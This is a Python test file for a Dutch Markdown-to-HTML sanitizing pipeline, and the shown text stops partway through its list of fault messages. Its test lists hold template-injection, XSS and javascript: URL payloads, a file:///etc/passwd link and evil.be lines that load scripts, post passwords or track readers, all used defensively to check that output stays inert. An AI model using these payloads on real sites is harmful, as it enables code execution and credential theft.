"""The safe-text pipeline: hostile text comes out inert, ordinary text comes out as it was meant."""

import re
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import assume, example, given, settings
from hypothesis import strategies as st
from jinja2 import Environment
from markdown import Markdown
from markupsafe import Markup

from kennisbank.prose import (
    OWN_SCHEMES,
    Glossary,
    PrintNode,
    Setting,
    faults,
    first_sentence,
    plain,
    render,
    render_inline,
    tree,
)
from kennisbank.prose.collecting import collected
from kennisbank.prose.faultfinding import by_pattern
from kennisbank.prose.nodes import Element, TermLink, UnknownNodeError
from kennisbank.prose.ordinary import ordinary
from kennisbank.prose.parsing import from_markdown, parsed
from kennisbank.prose.patterns import lists_in_a_paragraph
from kennisbank.prose.subset import LONGEST, converted
from kennisbank.prose.typesetting import typeset
from kennisbank.records.text import Prose

RECORDS = {("praktijk", "soep"), ("begrip", "ocmw"), ("begrip", "trekker"), ("begrip", "hope")}
SOURCES = {"gazet": 1, "bode-2": 2, "blad": 3}
GLOSSARY = Glossary(
    [
        ("ocmw", ["OCMW", "OCMW Lier"], "Helpt wie hulp nodig heeft."),
        ("trekker", ["trekker", "trekkers"], 'Houdt het netwerk "warm" {samen}.'),
        ("hope", ["'t Hope", "Kom!pas"], "Een huis."),
    ]
)

ATTRIBUTES = {
    "a": {"href", "rel", "class", "data-term", "aria-label"},
    "sup": {"class"},
    **{tag: set() for tag in ("p", "ul", "ol", "li", "blockquote", "strong", "em", "code")},
}
BLOCK_TAGS = {"p", "ul", "ol", "li", "blockquote"}


def setting(**changes: Any) -> Setting:
    def link(scheme: str, id: str) -> str | None:
        return f"../{scheme}/{id}/" if (scheme, id) in RECORDS else None

    return Setting(**{"link": link, "source_number": SOURCES.get, **changes})


def with_glossary(**changes: Any) -> Setting:
    return setting(glossary=GLOSSARY, **changes)


class Reader(HTMLParser):
    """Reads HTML like a browser would: tags, attributes, and the words outside source marks."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self._words: list[str] = []
        self._in_mark = False
        self.feed(html)
        self.close()

    @property
    def words(self) -> str:
        return " ".join("".join(self._words).split())

    @property
    def links(self) -> list[str]:
        return [attributes["href"] or "" for tag, attributes in self.tags if tag == "a"]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_mark = self._in_mark or tag == "sup"
        self._words.append(" " if tag in BLOCK_TAGS else "")

    def handle_endtag(self, tag: str) -> None:
        self._in_mark = self._in_mark and tag != "sup"
        self._words.append(" " if tag in BLOCK_TAGS else "")

    def handle_data(self, data: str) -> None:
        self._words.append("" if self._in_mark else data)

    def handle_comment(self, data: str) -> None:
        self.tags.append(("comment", {}))

    def handle_decl(self, decl: str) -> None:
        self.tags.append(("declaration", {}))

    def handle_pi(self, data: str) -> None:
        self.tags.append(("instruction", {}))


def words_of(nodes: list[PrintNode]) -> str:
    """Return the words of a print tree, with a space around every block."""

    def spoken(node: Any) -> Iterator[str]:
        gap = " " if node["t"] in ("par", "item", "quote") else ""
        yield gap + node.get("v", "")
        for child in node.get("c", ()):
            yield from spoken(child)
        yield gap

    return " ".join("".join(part for node in nodes for part in spoken(node)).split())


def messages(text: str) -> list[str]:
    return [fault.message for fault in found(text)]


def found(text: str) -> Any:
    return faults(text, lambda scheme, id: (scheme, id) in RECORDS, lambda id: id in SOURCES)


# --- what authors may use

ORDINARY = [
    ("Buren koken **samen** en *soms* met `zout`.", "<p>Buren koken <strong>samen</strong> en"
     " <em>soms</em> met <code>zout</code>.</p>"),
    ("Een.\n\nTwee\nregels.", "<p>Een.</p>\n<p>Twee regels.</p>"),
    ("- kom\n- lepel", "<ul><li>kom</li><li>lepel</li></ul>"),
    ("- kom\n\n- lepel", "<ul><li>kom</li><li>lepel</li></ul>"),
    ("1. koken\n2. **eten** *samen*",
     "<ol><li>koken</li><li><strong>eten</strong> <em>samen</em></li></ol>"),
    ("- pan\n    - deksel\n- vuur", "<ul><li>pan<ul><li>deksel</li></ul></li><li>vuur</li></ul>"),
    ("- pan\n\n    groot\n\n- vuur", "<ul><li>pan<p>groot</p></li><li>vuur</li></ul>"),
    ("> Lekker!\n\nZei ze.", "<blockquote><p>Lekker!</p></blockquote>\n<p>Zei ze.</p>"),
    ("[krant](https://gazet.be/a?b=1&c=2)",
     '<p><a href="https://gazet.be/a?b=1&amp;c=2" rel="noopener">krant</a></p>'),
    ("[wiki](https://w.be/Soep_(eten) \"titel\")",
     '<p><a href="https://w.be/Soep_(eten)" rel="noopener">wiki</a></p>'),
    ("<https://gazet.be/>", '<p><a href="https://gazet.be/" rel="noopener">https://gazet.be/</a></p>'),
    ("[mail](mailto:soep@lier.be)", '<p><a href="mailto:soep@lier.be">mail</a></p>'),
    ("<soep@lier.be>", '<p><a href="mailto:soep@lier.be">soep@lier.be</a></p>'),
    ("[de [grote] pan](https://a.be)",
     '<p><a href="https://a.be" rel="noopener">de [grote] pan</a></p>'),
    ("[soep](praktijk:soep)", '<p><a href="../praktijk/soep/">soep</a></p>'),
    ("[rijst](praktijk:rijst)", "<p>rijst</p>"),
    ("5 < 6 & 'zo' \"hier\"", "<p>5 &lt; 6 &amp; ‘zo’ “hier”</p>"),
    ("een \"**woord**\" in '`'t`'", "<p>een “<strong>woord</strong>” in ‘<code>'t</code>’</p>"),
    ("- \"ja\"\n- 't Hope[^gazet]", '<ul><li>“ja”</li><li>’t Hope<sup class="source-mark">'
     '<a href="#bron-1" aria-label="bron 1">1</a></sup></li></ul>'),
    (r"\*geen\* nadruk \[niets\](x)", "<p>*geen* nadruk [niets](x)</p>"),
    ("***beide*** en *een **in** ander* en **een *in* ander**",
     "<p><strong><em>beide</em></strong> en <em>een <strong>in</strong> ander</em> en"
     " <strong>een <em>in</em> ander</strong></p>"),
    ("_soms_ __samen__ **O**CMW",
     "<p><em>soms</em> <strong>samen</strong> <strong>O</strong>CMW</p>"),
    ("7*7 medewerk*er deelnem*er snake_case_naam ____ * los *", "<p>7*7 medewerk*er deelnem*er"
     " snake_case_naam ____ * los *</p>"),
    ("#samen op straat", "<p>#samen op straat</p>"),
    ("<em>geen</em> HTML", "<p>&lt;em&gt;geen&lt;/em&gt; HTML</p>"),
    ("<p>geen HTML</p>", "<p>&lt;p&gt;geen HTML&lt;/p&gt;</p>"),
    ("<sup>gazet</sup>", "<p>&lt;sup&gt;gazet&lt;/sup&gt;</p>"),
    ("[a]: https://a.be\n\n[a] [b][a]", "<p>[a]: https://a.be</p>\n<p>[a] [b][a]</p>"),
    (r"[x](https://a.be/een\_twee)",
     '<p><a href="https://a.be/een_twee" rel="noopener">x</a></p>'),
    ("    diep ingesprongen", "<p>diep ingesprongen</p>"),
    ("regel een  \nregel twee", "<p>regel een regel twee</p>"),
    ("", ""),
]  # fmt: skip


@pytest.mark.parametrize(("text", "html"), ORDINARY)
def test_ordinary_text_comes_out_as_meant(text: str, html: str) -> None:
    assert render(text, setting()) == html


def test_only_the_pipeline_makes_markup() -> None:
    assert isinstance(render("soep", setting()), Markup)
    assert isinstance(render_inline("soep", setting()), Markup)
    assert not hasattr(plain("soep"), "__html__")


def test_a_prose_field_renders_like_its_text() -> None:
    assert render(Prose("**soep**"), setting()) == "<p><strong>soep</strong></p>"


def test_inline_is_the_same_text_without_blocks() -> None:
    assert render_inline("**Een**.\n\n- kom\n- pan", setting()).split() == [
        "<strong>Een</strong>.",
        "kom",
        "pan",
    ]


def test_plain_leaves_only_words_on_one_line() -> None:
    text = "**Een** [soep](praktijk:soep)[^gazet].\n\n- kom & pan\n- `{x}`"
    assert plain(text) == "Een soep. kom & pan {x}"


def test_windows_lines_and_loose_accents_make_no_difference() -> None:
    assert render("een\r\n\r\ntwee\rdrie", setting()) == render("een\n\ntwee\ndrie", setting())
    assert plain("coo\u0308peratie") == "coöperatie"


def test_a_setting_without_links_leaves_the_words() -> None:
    assert render("[soep](praktijk:soep)[^gazet]", Setting()) == "<p>soep</p>"
    assert render("[krant](https://a.be)", Setting()).count("<a ") == 1


def test_one_text_renders_differently_in_two_settings() -> None:
    text = "[soep](praktijk:soep)[^gazet]"
    here = render(text, setting(link=lambda _s, _i: "hier/", source_number=lambda _i: 7))
    assert 'href="hier/"' in here and ">7</a>" in here
    assert 'href="../praktijk/soep/"' in render(text, setting())


# --- source marks


def mark(*numbers: int) -> str:
    links = (f'<a href="#bron-{n}" aria-label="bron {n}">{n}</a>' for n in numbers)
    return f'<sup class="source-mark">{", ".join(links)}</sup>'


MARKS = [
    ("Zestig[^gazet].", f"Zestig{mark(1)}."),
    ("Zestig [^gazet] mensen", f"Zestig{mark(1)} mensen"),
    ("Zestig[^blad][^gazet].", f"Zestig{mark(1, 3)}."),
    ("Zestig[^gazet] [^bode-2] [^gazet].", f"Zestig{mark(1, 2)}."),
    ("**Zestig[^gazet]**", f"<strong>Zestig{mark(1)}</strong>"),
    ("[krant [^gazet] van toen](praktijk:soep)",
     f'<a href="../praktijk/soep/">krant van toen</a>{mark(1)}'),
    ("[**krant** *[^gazet]*](praktijk:soep)",
     f'<a href="../praktijk/soep/"><strong>krant</strong> </a>{mark(1)}'),
    ("Zestig [^weg], zeventig.", "Zestig, zeventig."),
    ("Zestig[^weg][^gazet].", f"Zestig{mark(1)}."),
    ("Zestig[^ GE_EN \"id\" <b>].", "Zestig."),
    ("Zestig[^over\nregels].", "Zestig."),
    ("`[^gazet]`", "<code>[^gazet]</code>"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "html"), MARKS)
def test_source_marks_become_numbers_and_unknown_ones_nothing(text: str, html: str) -> None:
    assert render(text, setting()) == f"<p>{html}</p>"


def test_a_paragraph_of_unknown_marks_leaves_nothing() -> None:
    assert render("[^weg]\n\nSoep.", setting()) == "<p>Soep.</p>"


def test_sources_are_asked_in_reading_order() -> None:
    asked: list[str] = []

    def count(source: str) -> int:
        asked.append(source)
        return len(asked)

    render(
        "a[^een] **b[^twee]**\n\n- c[^drie]\n\n[d[^vier]](https://a.be)",
        Setting(source_number=count),
    )
    assert asked == ["een", "twee", "drie", "vier"]


# --- the glossary


def terms(text: str, where: Setting | None = None) -> list[str]:
    reader = Reader(render(text, where or with_glossary()))
    return [a["href"] or "" for _, a in reader.tags if a.get("class") == "term"]


def test_a_term_links_to_its_explanation() -> None:
    assert render("De trekker.", with_glossary()) == (
        '<p>De <a class="term" href="../begrip/trekker/" data-term="Houdt het netwerk'
        ' &quot;warm&quot; &#123;samen&#125;.">trekker</a>.</p>'
    )


def test_a_page_links_a_term_once() -> None:
    page = with_glossary()
    assert len(terms("De trekker en de Trekkers.", page)) == 1
    assert terms("Weer een trekker.", page) == []
    assert len(terms("Weer een trekker.", with_glossary())) == 1


def test_a_term_is_not_linked_on_its_own_page() -> None:
    both = "Trekker bij het OCMW."
    assert terms(both, with_glossary(skip_term="trekker")) == ["../begrip/ocmw/"]
    assert len(terms(both)) == 2


def test_terms_stay_out_of_links_and_code() -> None:
    assert terms("[trekker](https://a.be) `trekker`") == []
    assert len(terms("**trekker** *OCMW*")) == 2


def test_a_term_that_the_author_links_counts_as_seen() -> None:
    assert terms("Een trekker is een [trekker](begrip:trekker).") == []


def test_a_term_without_a_page_stays_text() -> None:
    assert terms("trekker", setting(glossary=GLOSSARY, link=lambda _s, _i: None)) == []


def test_the_tree_for_paper_has_no_terms() -> None:
    assert tree("trekker", with_glossary()) == [{"t": "par", "c": [{"t": "text", "v": "trekker"}]}]


OCCURRENCES = [
    ("Het OCMW.", ["OCMW"]),
    ("het ocmw", []),
    ("OCMW's en OCMW-raad", ["OCMW", "OCMW"]),
    ("OCMW Lier, ocmw lier", ["OCMW Lier", "ocmw lier"]),
    ("TREKKER, Trekkers; trekker", ["TREKKER", "Trekkers", "trekker"]),
    ("trekkersgroep, optrekker", []),
    ("trekker-coach, co-trekker, trekker- en duwer", []),
    ("trekker’s ‘trekker’", ["trekker", "trekker"]),
    ("in ’t Hope en in 't hope", ["’t Hope", "'t hope"]),
    ("bij 't\u00a0Hope", ["'t\u00a0Hope"]),
    ("Kom!pas, kom!pas! Kom pas", ["Kom!pas", "kom!pas"]),
    ("www.trekker.be mail@trekker.be https://a.be/trekker trekker@a.be", []),
    ("Zo is een trekker. Op lier.trekker", ["trekker"]),
]


@pytest.mark.parametrize(("text", "words"), OCCURRENCES)
def test_the_glossary_finds_whole_words(text: str, words: list[str]) -> None:
    assert [text[o.start : o.end] for o in GLOSSARY.occurrences(text)] == words


def test_an_abbreviation_and_a_word_with_the_same_letters_are_two_terms() -> None:
    glossary = Glossary([("a", ["SAM"], ""), ("b", ["sam"], ""), ("c", ["Sam", "SAM"], "")])
    assert [o.id for o in glossary.occurrences("SAM sam Sam")] == ["a", "b", "b"]


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("Ga naar De Lage Drempel.", []),
        ("Het vereist een Drempel.", ["Drempel"]),
        ("Elke Drempel telt.", ["Drempel"]),
        ("Een lage drempel.", ["drempel"]),
        ("Bij Stad Gent en het Leuvense Sociaal Huis.", ["Sociaal Huis"]),
    ],
)
def test_a_common_word_in_a_name_is_no_term(text: str, found: list[str]) -> None:
    glossary = Glossary([("a", ["drempel"], ""), ("b", ["Sociaal Huis"], "")])
    assert [text[one.start : one.end] for one in glossary.occurrences(text)] == found


def test_the_longest_variant_wins_whatever_its_case() -> None:
    glossary = Glossary([("a", ["KBS"], ""), ("b", ["kbs fonds"], ""), ("c", ["KBS FONDS X"], "")])
    assert [o.id for o in glossary.occurrences("KBS. KBS fonds. KBS FONDS X")] == ["a", "b", "c"]


@given(st.lists(st.text(), max_size=5), st.text())
def test_no_variant_and_no_text_breaks_the_glossary(variants: list[str], text: str) -> None:
    around = " ".join([*variants, text, *map(str.upper, variants), *map(str.lower, variants)])
    for occurrence in Glossary([("x", variants, "")]).occurrences(around):
        assert around[occurrence.start : occurrence.end]


# --- hostile text

ATTACKS = [
    # S1, S2: code in a template
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{# weg #}",
    "&#123;{ 7*7 }&#125;",
    "&#123;&#123; 7*7 &#125;&#125;",
    "&lbrace;&lbrace; 7*7 &rbrace;&rbrace;",
    "`{{ 7*7 }}`",
    "{**{ 7*7 }**}",
    "[x](https://a.be/{{7*7}})",
    # S3: scripts
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.be/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<b onmouseover=alert(1)>vet</b>",
    "<b",
    '<a href="https://a.be" onclick="alert(1)"',
    "<style>*{display:none}</style>",
    "<!-- weg --> <!--> <!",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id') ?>",
    "<!DOCTYPE html>",
    "<div markdown='1'>\n\n**x**\n\n</div>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "- <script>\n- alert(1)\n- </script>",
    "`<script>alert(1)</script>`",
    "**<b>**</b>",
    # S4: attributes
    '[a](https://a.be){ onclick="alert(1)" }',
    "{: onclick=alert(1) }",
    "# kop {#__config onclick=alert(1)}",
    '[a](https://a.be "x\\" onclick=\\"alert(1)")',
    "[a](https://a.be' onclick='alert(1))",
    # S6: breaking out of a script that holds the text
    '"</script><script>alert(1)</script>',
    # S7: files
    '--8<-- "mkdocs.yml"',
    "![[mkdocs.yml]]",
    # S9: breaking out of the page
    "</div></article><h1>Nieuws</h1>",
    "</p></li></ul></main>",
    "<form action=//evil.be><input name=wachtwoord></form>",
    '<p id="__config" class="md-header" style="position:fixed">x</p>',
    "<base href=//evil.be>",
    "<meta http-equiv=refresh content=0;url=//evil.be>",
    # S10: tracking
    "![x](//evil.be/p.gif)",
    "![x](https://evil.be/p.gif)",
    "![x][p]\n\n[p]: https://evil.be/p.gif",
    '<a href="//evil.be">x</a>',
    # the converter's own placeholders
    "[x](https://a.be/`c`)",
    "7*7 **&amp; 7*7 __x__",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02amp\x03",
    "\x00\x1b[31m\ud800\u2028\u2029\x85",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_leaves_only_words(text: str) -> None:
    for html in (render(text, setting()), render_inline(text, setting())):
        assert_inert(html)


CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def assert_inert(html: str) -> None:
    """Nothing but allowed tags and attributes, no link to elsewhere than https, nothing to run."""
    reader = Reader(html)
    for tag, attributes in reader.tags:
        assert tag in ATTRIBUTES and set(attributes) <= ATTRIBUTES[tag], (tag, attributes)
    for link in reader.links:
        assert link.lower().startswith(("https://", "mailto:", "../", "#bron-")), link
    assert not CONTROLS.search(html)
    assert "{" not in html and "}" not in html
    assert "\n\n" not in html and "\n " not in html and "\t" not in html
    assert Environment().from_string(html).render() == html


REFUSED = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#115;cript:alert(1)",
    "&#106;&#97;vascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "java&#9;script:alert(1)",
    "java&Tab;script:alert(1)",
    "java&#10;script:alert(1)",
    "&#1;javascript:alert(1)",
    "&nbsp;javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://%0aalert(1)",
    "<javascript:alert(1)>",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd",
    "blob:https://a.be/x",
    "http://a.be",
    "//evil.be",
    "/\\evil.be",
    "\\\\evil.be",
    "https:evil.be",
    "https:/evil.be",
    "https://",
    "https://[",
    "https://gazet.be@evil.be",
    "https://gazet.be\\@evil.be",
    "/praktijken/",
    "../over/",
    "#anker",
    "?vraag",
    "",
    "mailto:",
    "mailto:niemand",
    "praktijk:",
    "praktijk:../../x",
    "praktijk:Soep",
    "praktijk:soep?x",
    "praktijken:soep",
    "bronteken:gazet",
]


@pytest.mark.parametrize("address", REFUSED)
def test_a_link_elsewhere_is_dropped_and_reported(address: str) -> None:
    text = f"Zie [hier]({address}) verder."
    assert Reader(render(text, setting())).links == []
    assert "href" not in str(tree(text, setting()))
    assert messages(text)


ALLOWED = [
    "https://gazet.be",
    "HTTPS://GAZET.BE/Soep?a=1&b=2#c",
    "https://gazet.be/soep%20op/@lier",
    "https://xn--caf-dma.be/",
    "mailto:soep@lier.be?subject=Soep",
    "praktijk:soep",
]


@pytest.mark.parametrize("address", ALLOWED)
def test_a_good_link_stays_and_is_not_reported(address: str) -> None:
    text = f"Zie [hier]({address}) verder."
    assert len(Reader(render(text, setting())).links) == 1
    assert messages(text) == []


OTHER_SPELLINGS = [
    "[x][js]\n\n[js]: javascript:alert(1)",
    "[js]\n\n[js]: javascript:alert(1)",
    "[js]: <javascript:alert(1)> 'x'\n\n[x] [js]",
    "[^gazet]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    "<vbscript:x>",
    "<http://a.be>",
    "<ftp://a.be>",
    "[x](java\nscript:alert(1))",
    "[x](java script:alert(1))",
    "[x]( javascript:alert(1) )",
    '[x](javascript:alert(1) "titel")',
    "[x](<javascript:alert(1)> 'titel')",
    "[[x](javascript:alert(1))](javascript:alert(2))",
    "[a [b](javascript:alert(1)) c](https://a.be/",
    "[x](javascript:alert`1`)",
    "[x](javascript\\:alert(1))",
    "[x](java**scr**ipt:alert(1))",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "![x](javascript:alert(1))",
]


@pytest.mark.parametrize("text", OTHER_SPELLINGS)
def test_no_other_spelling_makes_a_link_elsewhere(text: str) -> None:
    assert set(Reader(render(text, setting())).links) <= {"#bron-1"}
    assert messages(text)


def test_a_link_in_a_link_is_one_link() -> None:
    html = render("[naar <https://evil.be/> toe](https://a.be)", setting())
    assert html.count("<a ") == html.count("</a>")
    assert "</a></a>" not in html


# --- any text at all

GLUE = [
    *("\n", "\n\n", "    ", "- ", "1. ", "> ", "*", "**", "_", "__", "`", "[", "]", "(", ")", "!["),
    *("[^", "<", ">", "&", "{", "}", "\\", "#", "|", ":", "://", "\t", "\r\n", "\x02", "\x03"),
]
FRAGMENTS = st.sampled_from(
    [
        *ATTACKS,
        *OTHER_SPELLINGS,
        *(text for text, _ in ORDINARY + MARKS),
        *(text for text, _ in OCCURRENCES),
        *(f"[x]({address})" for address in (*REFUSED, *ALLOWED)),
        *GLUE,
        "javascript:",
    ]
)
ANY_TEXT = st.lists(st.one_of(FRAGMENTS, st.text(max_size=12)), max_size=12).map("".join)
ANY_CHARACTERS = st.text(st.characters(exclude_categories=()))


@settings(max_examples=250, deadline=None)
@given(st.one_of(ANY_TEXT, ANY_CHARACTERS))
def test_any_text_comes_out_inert(text: str) -> None:
    assert_inert(render(text, with_glossary()))
    assert_inert(render_inline(text, with_glossary()))


def straight(words: str) -> str:
    """Undo what a page and a line each do to quotation marks, by what stands around them."""
    return words.translate(str.maketrans("‘’“”", "''\"\""))


@settings(max_examples=150, deadline=None)
@given(st.one_of(ANY_TEXT, ANY_CHARACTERS))
@example("- a\n\n    b\n- **c** *d*[^gazet]\n\n> e")
def test_page_paper_and_plain_text_say_the_same(text: str) -> None:
    words = straight(Reader(render(text, with_glossary())).words)
    assert straight(words_of(tree(text, setting()))) == words
    assert straight(Reader(render_inline(text, setting())).words) == words
    assert straight(plain(text)) == words


SIGNS = "** * _ [ ] ( ) ' ’ “ - – / : , ? % € + & \\ ` ! #"
PIECES = ["a", "É", "2", "2.", "1.000", "3)", "[^a-1]", "[^a b]", *SIGNS.split()]
NEARLY_ORDINARY = st.lists(
    st.sampled_from([*PIECES, *("woord", " ", "  ", "\n", "\n\n", " \n", " [^b]", "**vet**")]),
    max_size=12,
).map("".join)


@given(st.one_of(ANY_CHARACTERS, NEARLY_ORDINARY))
@settings(max_examples=500, deadline=None)
def test_ordinary_text_gives_what_the_long_way_gives(text: str) -> None:
    assert parsed(text) == from_markdown(text)


MOSTLY_ORDINARY = st.lists(
    st.sampled_from(
        ["woord", " woord", " 2", "1.000", "\nÉ", "\n\na", "[^a-1]", " **vet**", ", -"]
    ),
    max_size=12,
).map(lambda pieces: "".join(["a", *pieces]))


@given(MOSTLY_ORDINARY)
@settings(max_examples=500, deadline=None)
def test_ordinary_text_looks_like_nothing_else(text: str) -> None:
    assume(ordinary(text))
    assert not [*by_pattern(text), *lists_in_a_paragraph(text)]
    assert [one.words for one in collected(text)] == re.findall(r"\[\^(.*?)\]", text)


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet="abc *_`[]()!#>-+1.;\\\n", max_size=60))
@example("a*b **c&#33; a*b __c__")
def test_no_word_is_lost(text: str) -> None:
    words = "".join(character for character in text if character in "abc")
    assume("](" not in text)
    assert "".join(c for c in plain(text) if c in "abc") == words


@settings(max_examples=100, deadline=None)
@given(ANY_TEXT)
def test_a_page_takes_the_html_over_as_it_stands(text: str) -> None:
    html = f"<div>{render(text, with_glossary())}</div>"
    assert Markdown().convert(f"Voor.\n\n{html}\n\nNa.") == f"<p>Voor.</p>\n{html}\n\n<p>Na.</p>"


@settings(max_examples=150, deadline=None)
@given(st.one_of(ANY_TEXT, ANY_CHARACTERS))
def test_no_text_breaks_the_faults(text: str) -> None:
    offsets = [fault.offset for fault in found(text)]
    assert offsets == sorted(offsets)
    assert all(0 <= offset <= len(text) for offset in offsets)


INTRICATE = ["- " * 4_000 + "a", "1. " * 4_000 + "a", "a" * (LONGEST + 1), "{{<b>" * LONGEST]


@pytest.mark.parametrize("text", INTRICATE)
def test_an_intricate_text_keeps_its_words_and_has_a_fault(text: str) -> None:
    assert render(text, setting()).count("<p>") == 1
    assert_inert(render(text, setting()))
    assert messages(text) == [
        "hoogstens 20000 tekens en geen lijst in lijst in lijst; maak de tekst eenvoudiger"
    ]
    assert render("- **soep**", setting()) == "<ul><li><strong>soep</strong></li></ul>"


@pytest.mark.parametrize("part", ["[", "[a](", "**a ", "`a", "[^", "<a@", "\t"])
def test_a_long_text_of_one_sign_comes_out_inert(part: str) -> None:
    assert_inert(render((part * LONGEST)[:LONGEST], setting()))


def test_deep_quotes_keep_their_words_without_their_shape() -> None:
    html = render("> " * 200 + "diep\n\n- ondiep", setting())
    assert 0 < html.count("<blockquote>") < 50
    assert Reader(html).words == "diep ondiep"


# --- the tree for paper


def test_the_tree_has_a_node_for_everything_on_the_page() -> None:
    text = "Een **twee** *drie* `vier`[^gazet][^blad]\n\n1. [vijf](praktijk:soep)\n\n> zes"
    assert tree(text, setting()) == [
        {
            "t": "par",
            "c": [
                {"t": "text", "v": "Een "},
                {"t": "strong", "c": [{"t": "text", "v": "twee"}]},
                {"t": "text", "v": " "},
                {"t": "emph", "c": [{"t": "text", "v": "drie"}]},
                {"t": "text", "v": " "},
                {"t": "text", "v": "vier"},
                {"t": "mark", "number": 1},
                {"t": "mark", "number": 3},
            ],
        },
        {
            "t": "enum",
            "c": [
                {
                    "t": "item",
                    "c": [
                        {
                            "t": "link",
                            "href": "../praktijk/soep/",
                            "c": [{"t": "text", "v": "vijf"}],
                        }
                    ],
                }
            ],
        },
        {"t": "quote", "c": [{"t": "par", "c": [{"t": "text", "v": "zes"}]}]},
    ]


def test_without_a_setting_the_tree_has_neither_links_nor_marks() -> None:
    assert tree("[vijf](praktijk:soep)[^gazet]") == [
        {"t": "par", "c": [{"t": "text", "v": "vijf"}]}
    ]


@pytest.mark.parametrize("node", [TermLink("a", "b", "c"), Element("table", ())])  # type: ignore[arg-type]
def test_a_node_that_paper_does_not_know_is_an_error(node: Any) -> None:
    with pytest.raises(UnknownNodeError):
        typeset((node,))


def test_a_text_is_parsed_once() -> None:
    parsed.cache_clear()
    for where in (setting(), with_glossary(), Setting()):
        render("soep voor iedereen", where)
    assert (parsed.cache_info().misses, parsed.cache_info().hits) == (1, 2)


# --- faults

NOT_MEANT = re.compile(r"rijst|HTML|sup>|\[a\]")
GOOD = [
    *(text for text, _ in ORDINARY if not NOT_MEANT.search(text)),
    "Een lijst:\n\n- kom\n- lepel\n  van hout\n- pan",
    "> - kom\n> - pan",
    "Zestig[^gazet], `<b>` en `[^weg]` en `{x}`.",
    "Vraag het aan <soep@lier.be> of [hier](https://a.be).",
    "We zijn <3 van soep; 3<4 en 5 > 4 | 6 - 2.",
    "Op 7 juli\n2011. Daarna begon het.",
    "Het was *goed*\n\n*en* warm",
    "a - b\n-- c",
    r"\# geen kop, \<b> geen vet",
]


@pytest.mark.parametrize("text", GOOD)
def test_a_good_text_has_no_faults(text: str) -> None:
    assert messages(text) == []


SUBSET_CURE = "weg (vet schrijf je als **woord**, cursief als *woord*)"
LINK_CURE = "gebruik https://, mailto: of een eigen id zoals praktijk:soep-op-de-stoep"
BAD = [
    ("Een lijst:\n- kom\n- pan", 11, "de lijst blijft gewone tekst; zet er een lege regel voor"),
    ("Zo:\n1. koken\n2. eten", 4, "de lijst blijft gewone tekst; zet er een lege regel voor"),
    ("> Zo:\n> - kom", 8, "de lijst blijft gewone tekst; zet er een lege regel voor"),
    ("- kom\n  - pan", 8,
     "een lijst in een lijst begint vier spaties verder; spring voor '-' meer in"),
    ("• kom\n\nen", 0, "'•' maakt geen lijst; begin elk punt met '- '"),
    ("2011. Een jaar.", 0,
     "een regel die met '2011.' begint wordt een lijst; zet er een woord voor"),
    ("A <b>vet</b", 2, f"HTML werkt hier niet: haal '<b>' {SUBSET_CURE}"),
    ("A <svg/onload=x", 2, f"HTML werkt hier niet: haal '<svg/onload=x' {SUBSET_CURE}"),
    ("A <!-- weg -->", 2, f"HTML werkt hier niet: haal '<!--' {SUBSET_CURE}"),
    ("Zie ![pan](https://a.be/p.gif)", 4,
     "een afbeelding werkt hier niet; zet ze in het veld media"),
    ("# Soep\n\nop", 0, "een kop ('#') werkt hier niet, de pagina zet ze zelf; haal de hekjes weg"),
    ("Soep\n====", 5, "een kop werkt hier niet; haal de regel met '====' weg"),
    ("Soep\n\n---", 6, "een streep werkt hier niet; haal '---' weg"),
    ("| a | b |\n|---|---|\n| c | d |", 0, "een tabel werkt hier niet; maak er een lijst van"),
    ("a | b\n--|--", 6, "een tabel werkt hier niet; maak er een lijst van"),
    ("Soep {{ x", 5, "'{{' kan hier niet staan; gebruik één accolade of laat ze weg"),
    ("`{% x`", 1, "'{%' kan hier niet staan; gebruik één accolade of laat ze weg"),
    ("Soep {# x", 5, "'{#' kan hier niet staan; gebruik één accolade of laat ze weg"),
    ("[js]: https://a.be", 0, "een adres of voetnoot apart zetten kan niet: haal '[js]:' weg en"
     " schrijf [woorden](https://…)"),
    ("Zie [hier][js].", 9,
     "de link met '][' is niet af; schrijf [woorden](https://…), zonder spatie in het adres"),
    ("Zie [hier](https://a.be/een twee).", 9,
     "de link met '](' is niet af; schrijf [woorden](https://…), zonder spatie in het adres"),
    ("Zestig[^gazet.", 6, "het bronteken met '[^' is niet af; schrijf het als [^id]"),
    ("Zie [](https://a.be).", 7, "de link naar 'https://a.be' heeft geen woorden om op te klikken;"
     " schrijf ze tussen [ en ]"),
    ("Zie [x](javascript:alert(1)).", 8,
     f"de link naar 'javascript:alert(1)' valt weg; {LINK_CURE}"),
